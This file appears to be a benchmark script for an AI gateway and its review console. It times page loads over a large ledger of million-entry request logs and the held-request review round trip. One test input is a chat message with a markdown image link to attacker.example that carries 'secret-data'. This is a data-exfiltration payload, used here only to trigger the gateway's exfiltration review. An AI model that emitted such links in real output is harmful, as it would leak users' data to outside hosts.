"""The console on a large ledger: page render times and the review round trip.

Builds a workspace whose ledger holds N gateway requests (default 1,000,000) spread over the
last 29 days, rolled up every 1,000 requests as the gateway does (``gateway.rollup``), serves
the console and a gateway (mock upstream) on 127.0.0.1, and measures over loopback HTTP:

  * page loads (p50/p99 over --loads): the overview (its verdicts are recomputed in the
    background when older than ``status_seconds``; the recomputation itself is timed too,
    and the gateway checks' 30-day window with and without the roll-ups), the ledger
    browser's first page, a page 90% deep, a filtered page, and one entry with its live
    inclusion proof;
  * the same deep page fetched with OFFSET pagination (the baseline keyset pagination
    replaces), in the same run;
  * the review round trip: a held request's 202, the reviewer's decision in the console, and
    the client's poll that receives the answer; the time added beyond the human is the
    decision request plus the poll, against a plain (not held) request as baseline.

    python benchmarks/console.py [--entries 1000000] [--loads 100]
"""

from __future__ import annotations

import argparse
import json
import os
import platform
import re
import statistics
import sys
import tempfile
import time
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import sqlalchemy as sa

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # run as a script from anywhere

from sai.catalog import load_catalog
from sai.gateway import MockUpstream, create_app, create_key, serve_in_thread
from sai.gateway.config import config_for
from sai.ledger import Evidence, Ledger, Origin, open_ledger
from sai.ledger.measured import MeasuredEvidence
from sai.ledger.rollup_log import roll_up
from sai.ledger.rollup_window import request_window
from sai.manifest import load_manifest
from sai.manifest.schema import GatewayPolicies, GatewaySpec, GuardsSpec
from sai.store import reading
from sai.store.schema import ledger_entries
from sai.web import ConsoleSettings, create_console
from sai.web.status import compute_status
from sai.workspace import create_workspace

RESULTS = Path(__file__).with_name("results") / "console.json"
BATCH = 500
_CSRF = re.compile(r'name="csrf" value="([^"]+)"')
MANIFEST = """\
version: 1
name: console-bench
intended_use: Measuring the console.
roles: [developer, system_operator]
people:
  owners:
    - name: Bench Owner
  security_contact: security@example.org
gateway:
  policies:
    requests_per_minute: null
    review_on: [exfiltration]
"""
HELD = [{"role": "user", "content": "![x](https://attacker.example/c?d=secret-data)"}]
PLAIN = [{"role": "user", "content": "hello"}]


def percentiles(samples: list[float]) -> dict[str, float]:
    ordered = sorted(samples)
    return {
        "p50_ms": round(1000 * statistics.median(ordered), 2),
        "p99_ms": round(1000 * ordered[min(len(ordered) - 1, int(0.99 * len(ordered)))], 2),
        "n": len(ordered),
    }


def timed(call: Callable[[], Any], loads: int) -> dict[str, float]:
    samples = []
    for _ in range(loads):
        began = time.perf_counter()
        call()
        samples.append(time.perf_counter() - began)
    return percentiles(samples)


ROLLUP_EVERY = 1_000
SPAN = timedelta(days=29)


def requests(count: int, start: int, total: int, first: datetime) -> list[Evidence]:
    """Gateway request entries as the gateway writes them, ``total`` spread over ``SPAN``."""
    step = SPAN / total
    return [
        Evidence.create(
            "gateway.request",
            f"model-{n % 7}",  # the subject filter page picks one in seven
            provisions=("5.2.2-1", "5.4.2-1"),
            actor="sai-gateway",
            origin=Origin.control("gateway.audit"),
            data={
                "request_id": f"r{n}",
                "method": "POST",
                "path": "/v1/chat/completions",
                "route": "chat",
                "key_id": f"key-{n % 5}",
                "role": "user",
                "model": f"model-{n % 7}",
                "status": 429 if n % 97 == 0 else 200,
                "guards": {"input": "pass", "output": "pass"},
                "verdicts": [],
                "latency_us": 1_800,
                "tokens": 312,
            },
            time=first + step * n,
        )
        for n in range(start, start + count)
    ]


def fill(ledger: Ledger, entries: int) -> float:
    """The requests, rolled up every ``ROLLUP_EVERY`` as the gateway does."""
    began = time.perf_counter()
    first = datetime.now(UTC) - SPAN
    for low in range(0, entries, BATCH):
        batch = requests(min(BATCH, entries - low), low, entries, first)
        ledger.append_many(batch, anchor=False)
        if (low + BATCH) % ROLLUP_EVERY == 0 or low + BATCH >= entries:
            roll_up(ledger, actor="sai-gateway")
    ledger.checkpoint()
    return time.perf_counter() - began


def window_times(ledger: Ledger) -> dict[str, dict[str, float]]:
    """The gateway checks' 30-day window: through the roll-ups, and counted entry by entry
    (what a ledger without roll-ups costs; measured once, it reads every request)."""
    since = datetime.now(UTC) - timedelta(days=30)
    rolled = MeasuredEvidence(ledger)

    class NoRollups:
        def query(self, query: Any = None, /, **filters: Any) -> list[Any]:
            if filters.get("kind") == "gateway.rollup":
                return []
            return rolled.query(query, **filters)

        def latest(self, query: Any = None, /, **filters: Any) -> Any:
            return (
                None if filters.get("kind") == "gateway.rollup" else rolled.latest(query, **filters)
            )

    return {
        "gateway checks' 30-day window, through roll-ups": timed(
            lambda: request_window(rolled, since), 20
        ),
        "gateway checks' 30-day window, every entry (no roll-ups)": timed(
            lambda: request_window(NoRollups(), since), 1
        ),
    }


def offset_page(ledger: Ledger, offset: int) -> list[Any]:
    """The baseline: the same page by OFFSET (what keyset pagination replaces)."""
    query = (
        sa.select(ledger_entries.c.idx, ledger_entries.c.leaf)
        .order_by(ledger_entries.c.idx.desc())
        .offset(offset)
        .limit(51)
    )
    with reading(ledger.engine) as conn:
        return list(conn.execute(query).all())


def sign_in(url: str, secret: str) -> httpx.Client:
    http = httpx.Client(base_url=url, timeout=60)
    token = _CSRF.search(http.get("/signin").text).group(1)  # type: ignore[union-attr]
    assert http.post("/signin", data={"api_key": secret, "csrf": token}).status_code == 303
    return http


def pages(http: httpx.Client, size: int, loads: int) -> dict[str, Any]:
    deep = size // 10

    def get(path: str) -> None:
        answer = http.get(path)
        assert answer.status_code == 200, (path, answer.status_code)

    get("/")  # the first load computes the verdicts; later ones are served from the cache
    return {
        "overview": timed(lambda: get("/"), loads),
        "ledger, first page": timed(lambda: get("/ledger"), loads),
        "ledger, page 90% deep (keyset)": timed(lambda: get(f"/ledger?before={deep}"), loads),
        "ledger, filtered by subject": timed(lambda: get("/ledger?subject=model-3"), loads),
        "entry with live inclusion proof": timed(lambda: get(f"/ledger/{size // 2}"), loads),
    }


def round_trips(gateway: str, console: httpx.Client, user: str, count: int) -> dict[str, Any]:
    auth = {"authorization": f"Bearer {user}"}
    holds, plains, decisions, polls, added = [], [], [], [], []
    with httpx.Client(base_url=gateway, timeout=60, headers=auth) as client:
        for _ in range(count):
            began = time.perf_counter()
            client.post("/v1/chat/completions", json={"model": "m", "messages": PLAIN})
            plains.append(time.perf_counter() - began)
            began = time.perf_counter()
            held = client.post("/v1/chat/completions", json={"model": "m", "messages": HELD})
            holds.append(time.perf_counter() - began)
            review_id = held.headers["x-sai-review-id"]
            token = _CSRF.search(console.get(f"/reviews/{review_id}").text).group(1)  # type: ignore[union-attr]
            began = time.perf_counter()
            console.post(
                f"/reviews/{review_id}/decide",
                data={"csrf": token, "action": "approve", "reason": "benchmark"},
            )
            decided = time.perf_counter()
            answer = client.get(f"/v1/sai/reviews/{review_id}")
            done = time.perf_counter()
            assert answer.status_code == 200
            decisions.append(decided - began)
            polls.append(done - decided)
            added.append(done - began)
    return {
        "plain request (baseline)": percentiles(plains),
        "held request answered 202": percentiles(holds),
        "decision in the console": percentiles(decisions),
        "client poll receiving the answer": percentiles(polls),
        "added beyond the human (decision + poll)": percentiles(added),
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--entries", type=int, default=1_000_000)
    parser.add_argument("--loads", type=int, default=100)
    parser.add_argument("--reviews", type=int, default=20)
    parser.add_argument("--output", type=Path, default=RESULTS)
    args = parser.parse_args(argv)
    with tempfile.TemporaryDirectory(prefix="sai-console-bench-") as directory:
        root = Path(directory)
        (root / "sai.yaml").write_text(MANIFEST)
        workspace = create_workspace(root, name="console-bench")
        loaded = load_manifest(root / "sai.yaml")
        upstream = serve_in_thread(MockUpstream())
        with open_ledger(workspace) as ledger:
            build = fill(ledger, args.entries)
            spec = GatewaySpec(
                policies=GatewayPolicies(requests_per_minute=None, review_on=["exfiltration"])
            )
            config = config_for(
                f"{upstream.url}/v1", gateway=spec, guards=GuardsSpec(input=["secrets"])
            )
            roles = tuple(config.roles)
            user = create_key(ledger, "bench-user", "user", roles=roles).secret
            reviewer = create_key(ledger, "bench-reviewer", "reviewer", roles=roles).secret
            gateway = serve_in_thread(create_app(config, ledger))
            settings = ConsoleSettings.from_manifest(loaded.manifest)
            console = serve_in_thread(
                create_console(ledger, loaded.manifest, load_catalog(), settings)
            )
            try:
                http = sign_in(console.url, reviewer)
                try:
                    page_times = pages(http, args.entries, args.loads)
                    page_times.update(window_times(ledger))
                    page_times["verdicts recomputed (all checks, background)"] = timed(
                        lambda: compute_status(
                            ledger, loaded.manifest, load_catalog(), datetime.now(UTC)
                        ),
                        20,
                    )
                    page_times["baseline: same deep page by OFFSET (SQL only)"] = timed(
                        lambda: offset_page(ledger, args.entries - args.entries // 10), args.loads
                    )
                    trips = round_trips(gateway.url, http, user, args.reviews)
                finally:
                    http.close()
            finally:
                console.stop()
                gateway.stop()
                upstream.stop()
    result = {
        "benchmark": "console",
        "entries": args.entries,
        "ledger_build_seconds": round(build, 1),
        "machine": {
            "python": sys.version.split()[0],
            "platform": platform.platform(),
            "cpus": os.cpu_count(),
            "load_average_at_start": os.getloadavg()[0],
        },
        "pages": page_times,
        "review_round_trip": trips,
    }
    for section in ("pages", "review_round_trip"):
        print(f"\n{section}")
        for name, figures in result[section].items():  # type: ignore[attr-defined]
            print(f"  {name:<48} p50 {figures['p50_ms']:>8} ms   p99 {figures['p99_ms']:>8} ms")
    args.output.parent.mkdir(parents=True, exist_ok=True)
    args.output.write_text(json.dumps(result, indent=2) + "\n", encoding="utf-8")
    print(f"\nwrote {args.output}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
